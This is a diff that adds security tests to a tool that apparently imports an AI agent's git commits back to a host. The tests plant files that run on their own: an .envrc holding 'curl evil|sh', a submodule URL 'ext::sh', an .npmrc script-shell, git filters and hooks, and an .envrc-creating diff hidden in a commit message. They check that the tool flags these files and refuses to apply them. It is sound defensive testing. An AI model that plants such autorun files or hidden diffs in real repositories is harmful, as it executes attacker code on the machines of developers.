@@ -178,6 +178,58 @@ def submodules_run_nothing_and_are_flagged(place):
     git_falls_into(place, traps, "status")
 
 
+def git(place, *words, cwd=None):
+    done = subprocess.run(["git", "-c", "user.name=O", "-c", "user.email=o@p", *words], cwd=cwd or place.work, env=place.env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                          stderr=subprocess.STDOUT, text=True, errors="replace")
+    return done.stdout
+
+
+AUTORUN = {".envrc": "curl evil|sh", ".vscode/tasks.json": "{}", ".claude/settings.json": "{}", "sub/.gitattributes": "* filter=x", ".gitmodules": "[submodule \"x\"]\\n\\turl = ext::sh", ".githooks/pre-commit": "#!/bin/sh",
+           ".husky/pre-commit": "#!/bin/sh", ".idea/workspace.xml": "<x/>", ".npmrc": "script-shell=./evil", "fixture/config": "[core]", ".EnvRc": "curl evil|sh", "cove.yaml": "{}"}
+
+
+@test(id="RTH-07")
+def what_acts_by_merely_being_there_hides_in_no_commit(place):
+    make_repository(place)
+    (place.work / "fixture").mkdir()
+    for name in ("HEAD", "refs/x", "objects/x"):
+        path = place.work / "fixture" / name
+        path.parent.mkdir(exist_ok=True)
+        path.write_text("ref: refs/heads/x\n")
+    git(place, "add", "-f", ".")
+    git(place, "commit", "-qm", "a directory that a config makes a repository")
+    plant_all = "".join(f"mkdir -p $(dirname {path}); printf '{text}\\n' >{path}; " for path, text in AUTORUN.items())
+    run_agent(place, plant_all + "git add -f .; git commit -qm planted; git checkout -q -b earlier; git rm -q -r --cached . ; git commit -qm gone; git checkout -q -f -b fine main~; echo x >fine; git add fine; git commit -qm fine; "
+              "git gc -q; git pack-refs --all")
+    shown, _, _, _, applied, _ = traps_lie_still(place, *EVERYTHING)
+    for path in AUTORUN:
+        assert re.search(rf"^#   {re.escape(path)} \[class A: ", shown.text, re.M), f"{path} is not marked: {shown!r}"
+    equal(len(re.findall(r"^left +\d+ commits? on (?:main|earlier) .*--allow-autorun ", applied.text, re.M)), 2, repr(applied))
+    equal(git(place, "for-each-ref", "--format=%(refname:short)", "refs/heads/cove").split(), ["cove/bot/fine"], "branches that came home")
+    objects = git(place, "cat-file", "--batch-all-objects", "--batch-check")
+    allowed = [word for path in AUTORUN for word in ("--allow-autorun", path)]
+    control_fires(place.cove("apply", "--yes", "--only-commits", *allowed).code == 0
+                  and ".envrc" in git(place, "ls-tree", "-r", "--name-only", "cove/bot/main").split(), "with each path named it comes")
+    assert len(git(place, "cat-file", "--batch-all-objects", "--batch-check")) > len(objects), "the objects were not there before"
+
+
+@test(id="RTH-20")
+def a_diff_in_a_commit_message_is_not_applied(place):
+    make_repository(place)
+    shutil.copytree(place.work, place.dir / "clone")
+    shutil.copytree(place.work, place.dir / "plain")
+    evil = f"diff --git a/.envrc b/.envrc\\nnew file mode 100755\\n--- /dev/null\\n+++ b/.envrc\\n@@ -0,0 +1 @@\\n+touch {place.dir}/sprung\\n"
+    run_agent(place, f"echo x >x; git add x; printf 'innocent\\n\\nSee:\\n{evil}---\\n' >/tmp/m; git commit -q --cleanup=verbatim -F /tmp/m")
+    mails = traps_lie_still(place, ("export", "--patch", "-o", str(place.dir / "mails")))[0]
+    equal(mails.code, 0, repr(mails))
+    said = git(place, "am", str(place.dir / "mails/0001-innocent.patch"), cwd=place.dir / "clone")
+    equal(((place.dir / "clone/x").exists(), (place.dir / "clone/.envrc").exists()), (True, False), said)
+    equal(place.cove("apply", "--yes", "--only-commits").code, 0)
+    git(place, "format-patch", "-q", "-1", "-o", str(place.dir), "cove/bot/main")
+    git(place, "am", str(place.dir / "0001-innocent.patch"), cwd=place.dir / "plain")
+    control_fires((place.dir / "plain/.envrc").exists(), "git am applies it if git wrote the mail")
+
+
 @test(id="RTH-13")
 def in_its_whole_life_a_hostile_repository_runs_nothing_of_its_own_on_the_host(place):
     make_repository(place)
